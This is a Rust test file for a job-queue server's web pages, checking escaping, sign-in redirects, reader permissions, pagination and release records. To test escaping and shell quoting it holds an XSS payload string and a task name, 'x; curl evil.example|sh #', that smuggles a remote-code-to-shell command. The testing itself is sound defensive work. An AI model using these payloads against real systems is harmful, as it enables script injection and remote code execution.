//! The pages, as a browser gets them.

use reqwest::header;
use semel_server::role::Role;
use serde_json::json;

use crate::bulk;
use crate::stage::{Answer, Stage, read};
use crate::world;

const HOSTILE: &str = "<img src=x onerror=alert(1)>\"'</script><script>alert(2)</script>";

async fn page(stage: &Stage, path: &str) -> Answer {
    read(
        stage
            .request("GET", path)
            .header(header::ACCEPT, "text/html")
            .send()
            .await
            .unwrap(),
    )
    .await
}

#[tokio::test]
async fn hostile_names_keys_errors_and_inputs_are_text_on_every_page() {
    let stage = Stage::new().await;
    let paths = world::hostile(&stage, HOSTILE).await;
    let mut shown = 0;
    for path in &paths {
        let answer = page(&stage, path).await.is(200);
        assert!(
            answer.headers[header::CONTENT_TYPE]
                .to_str()
                .unwrap()
                .starts_with("text/html")
        );
        assert!(
            !answer.text.contains("<img") && !answer.text.contains("<script>"),
            "{path}"
        );
        assert_eq!(
            answer.text.matches("<script").count(),
            1,
            "{path}: only our own script"
        );
        assert!(
            !answer.text.contains(" style=") && !answer.text.contains(" onclick="),
            "{path}"
        );
        assert!(
            !answer.text.contains("http://") && !answer.text.contains("https://"),
            "{path} names another place"
        );
        shown += usize::from(answer.text.contains("&lt;img"));
    }
    assert!(shown >= 10, "the hostile text was shown on {shown} pages");
    let search = "/keys?text=%22%3E%3Cimg%20src%3Dx%3E";
    assert!(!page(&stage, search).await.is(200).text.contains("<img"));
    let missing = page(&stage, "/jobs/%3Cimg%20src%3Dx%3E").await.is(404);
    assert!(!missing.text.contains("<img"), "{}", missing.text);
}

#[tokio::test]
async fn who_is_not_known_is_sent_to_sign_in_and_a_reader_gets_no_levers() {
    let mut stage = Stage::new().await;
    let reader = stage.token("reader", &[Role::Read], &[]).await;
    let sent = page(&stage, "/").await.is(303);
    assert_eq!(sent.headers[header::LOCATION], "/login");
    let sent = page(&stage, "/jobs?state=failed").await.is(303);
    assert_eq!(sent.headers[header::LOCATION], "/login#/jobs?state=failed");
    page(&stage, "/login").await.is(200);
    page(&stage, "/assets/script.js").await.is(200);
    page(&stage, "/assets/style.css").await.is(200);
    stage.token = Some(reader);
    let queues = page(&stage, "/queues").await.is(200);
    assert!(!queues.text.contains("data-call=\"POST /v1"), "{}", queues.text);
}

#[tokio::test]
async fn every_code_has_its_page() {
    let stage = Stage::new().await;
    for code in semel_server::CODES {
        let answer = page(&stage, &format!("/problems/{}", code.word)).await.is(200);
        assert!(answer.text.contains(code.word));
    }
    page(&stage, "/problems/unheard-of").await.is(404);
}

#[tokio::test]
async fn filters_stay_in_the_address_of_the_next_page() {
    let stage = Stage::new().await;
    for n in 0..60 {
        stage.submit(json!({"task": "a b", "input": n})).await;
    }
    let answer = page(&stage, "/jobs?task=a%20b&state=queued").await.is(200);
    assert!(
        answer
            .text
            .contains("/jobs?state=queued&amp;task=a%20b&amp;cursor="),
        "{}",
        answer.text
    );
}

#[tokio::test]
async fn the_page_of_a_key_that_was_released_by_hand_says_who_did_it_and_why() {
    let stage = Stage::new().await;
    let id = stage
        .submit(json!({"task": "charge", "input": {}, "idempotency_key": "ORD-1"}))
        .await;
    let keys = stage.get("/v1/keys").await.is(200);
    let digest = keys.json["items"][0]["digest"].as_str().unwrap().to_owned();
    let release = format!("/v1/keys/{digest}/release");
    // A refusal is no release.
    let other = stage.submit(json!({"task": "mail", "input": {}})).await;
    let mistaken = json!({"holder": other, "reason": "wrong one"});
    assert_ne!(stage.post(&release, mistaken).await.status, 200);
    let key = page(&stage, &format!("/keys/{digest}")).await.is(200);
    assert!(!key.text.contains("Released"), "{}", key.text);
    let body = json!({"holder": id, "reason": "charged by <phone>"});
    stage.post(&release, body).await.is(200);
    let key = page(&stage, &format!("/keys/{digest}")).await.is(200);
    let told = key.text.split("<b>Released</b>").nth(1).expect("it says so");
    assert!(
        told.contains("by <b>local</b>: charged by &lt;phone&gt;"),
        "{told}"
    );
    assert!(!key.text.contains("wrong one"), "{}", key.text);
}

/// The lines of a key's life as text, without markup and without how long ago it was.
fn life(page: &Answer) -> Vec<String> {
    let list = page.text.split("<ol class=\"life\"").nth(1).unwrap();
    let list = list.split("</ol>").next().unwrap();
    let lines = list.split("<li>").skip(1).map(|line| {
        let texts = line
            .split('<')
            .filter_map(|part| part.split_once('>').or(Some(("", part))));
        let texts = texts.filter(|(tag, _)| !tag.starts_with("time"));
        let text: String = texts.map(|(_, text)| text).collect();
        text.split_whitespace().collect::<Vec<_>>().join(" ")
    });
    lines.collect()
}

#[tokio::test]
async fn a_keys_life_tells_of_every_owner_in_its_order() {
    let stage = Stage::new().await;
    let body =
        |task: &str| json!({"task": task, "input": {}, "idempotency_key": "ORD-1", "producer": "shop"});
    let first = stage.submit(body("charge")).await;
    stage.post("/v1/jobs", body("charge")).await.is(200);
    let keys = stage.get("/v1/keys").await.is(200);
    let digest = keys.json["items"][0]["digest"].as_str().unwrap().to_owned();
    let path = format!("/keys/{digest}");
    let release = async |holder: &str, reason: &str| {
        let body = json!({"holder": holder, "reason": reason});
        stage
            .post(&format!("/v1/keys/{digest}/release"), body)
            .await
            .is(200);
    };
    release(&first, "first reason").await;
    let second = stage.submit(body("charge")).await;
    // This one absorbs nothing: only the record knows of it.
    let act = json!({"action": "release", "filter": {"text": "ORD-1"}, "reason": "second reason"});
    bulk::carried_out(&stage, act).await;
    let third = stage.submit(body("charge")).await;
    stage.post("/v1/jobs", body("charge")).await.is(200);
    assert!(first != second && second != third);
    let short = |id: &str| format!("…{}", &id[id.len() - 12..]);
    let absorbed = |id: &str| format!("duplicate from shop (use_existing) → {}", short(id));
    let taken = |id: &str| format!("Taken by {} queued", short(id));
    let whole = vec![
        absorbed(&third),
        taken(&third),
        "Released in a bulk act by local: second reason".to_owned(),
        taken(&second),
        "Released by local: first reason".to_owned(),
        absorbed(&first),
        taken(&first),
    ];
    assert_eq!(life(&page(&stage, &path).await.is(200)), whole);
    // The same, an absorbed submission at a time.
    let newer = page(&stage, &format!("{path}?limit=1")).await.is(200);
    let older = newer
        .text
        .split("href=\"/keys/")
        .find(|link| link.contains("cursor="));
    let older = older.unwrap().split('"').next().unwrap();
    let older = page(&stage, &format!("/keys/{older}&limit=1")).await.is(200);
    assert_eq!(life(&newer), whole[..4]);
    assert_eq!(life(&older), whole[4..]);
}

/// What a task may be called, and what would then be copied into a terminal.
const COMMAND: &str = "x; curl evil.example|sh #";

#[tokio::test]
async fn names_in_commands_are_quoted_for_a_shell() {
    let stage = Stage::new().await;
    let id = stage
        .submit(json!({"task": COMMAND, "input": 1, "queue": "it's"}))
        .await;
    let command = async |alert: &str| {
        // What was seen of the store within the last second is not looked at again.
        tokio::time::sleep(std::time::Duration::from_millis(1_100)).await;
        let alerts = stage.get("/v1/alerts").await.is(200);
        let alerts = alerts.json["watched"].as_array().unwrap().clone();
        let found = alerts.into_iter().find(|one| one["alert"] == alert).unwrap();
        found["command"].as_str().unwrap().to_owned()
    };
    assert_eq!(
        command("no_worker").await,
        format!("semel work --task '{COMMAND}' --exec 'CMD'")
    );
    assert_eq!(
        command("oldest_waiting").await,
        format!("semel jobs list --state queued --task '{COMMAND}'")
    );
    let shown = page(&stage, &format!("/jobs/{id}")).await.is(200);
    let work = format!("semel work --task '{COMMAND}' --exec 'CMD'");
    assert!(shown.text.contains(&work), "{}", shown.text);
    let pause = "/v1/tasks/x%3B%20curl%20evil.example%7Csh%20%23/pause";
    stage.post(pause, json!({})).await.is(200);
    let resume = format!("semel tasks resume '{COMMAND}'");
    assert_eq!(command("paused").await, resume);
    let shown = page(&stage, &format!("/jobs/{id}")).await.is(200);
    assert!(shown.text.contains(&resume), "{}", shown.text);
    stage.post("/v1/queues/it's/pause", json!({})).await.is(200);
    let shown = page(&stage, &format!("/jobs/{id}")).await.is(200);
    assert!(
        shown.text.contains(r"semel queues resume 'it'\''s'"),
        "{}",
        shown.text
    );
}

#[tokio::test]
async fn why_a_queue_is_closed_or_only_watched_is_told_beside_it() {
    let stage = Stage::new().await;
    for queue in ["letters", "parcels"] {
        let body = json!({"task": "t", "input": 1, "queue": queue});
        stage.submit(body).await;
    }
    let set = async |body: serde_json::Value| {
        stage.call("PATCH", "/v1/queues/letters", body).await.is(200);
    };
    set(json!({"intake": "closed", "reason": "an older one"})).await;
    set(json!({"intake": "closed", "reason": "moving <house>"})).await;
    set(json!({"mode": "observe", "reason": "trying it out"})).await;
    set(json!({"unique": true, "reason": "as agreed"})).await;
    tokio::time::sleep(std::time::Duration::from_millis(1_100)).await;
    for path in ["/queues", "/configuration"] {
        let shown = page(&stage, path).await.is(200);
        for told in ["moving &lt;house&gt;", "trying it out", "as agreed"] {
            assert_eq!(shown.text.matches(told).count(), 1, "{told} on {path}");
        }
        assert!(!shown.text.contains("an older one"), "{path}");
    }
    // Every lever takes a reason.
    let levers = page(&stage, "/queues").await.is(200);
    let forms = levers.text.split("<form").skip(1);
    let mut acts = 0;
    for form in forms.filter(|form| form.contains("data-call=\"P")) {
        let form = form.split("</form>").next().unwrap();
        let takes_one = form.contains("name=\"reason\"") || form.contains("POST /logout");
        assert!(takes_one, "{form}");
        acts += 1;
    }
    assert!(acts > 8, "{acts} levers");
}

#[tokio::test]
async fn a_rate_that_is_not_judged_yet_says_so() {
    let stage = Stage::new().await;
    stage.dead_letter("t", json!({"input": 1})).await;
    tokio::time::sleep(std::time::Duration::from_millis(1_100)).await;
    let shown = page(&stage, "/").await.is(200);
    let told =
        "1 of 1 job that ended failed within the last hour (100.0 %); fewer than 20 jobs say nothing yet";
    assert!(shown.text.contains(told), "{}", shown.text);
}

#[tokio::test]
async fn pages_tell_the_servers_time() {
    let stage = Stage::new().await;
    let shown = page(&stage, "/").await.is(200);
    let now = shown.text.split("data-now=\"").nth(1).unwrap();
    let now: i64 = now.split('"').next().unwrap().parse().unwrap();
    assert!(now > 1_700_000_000_000, "{now}");
}
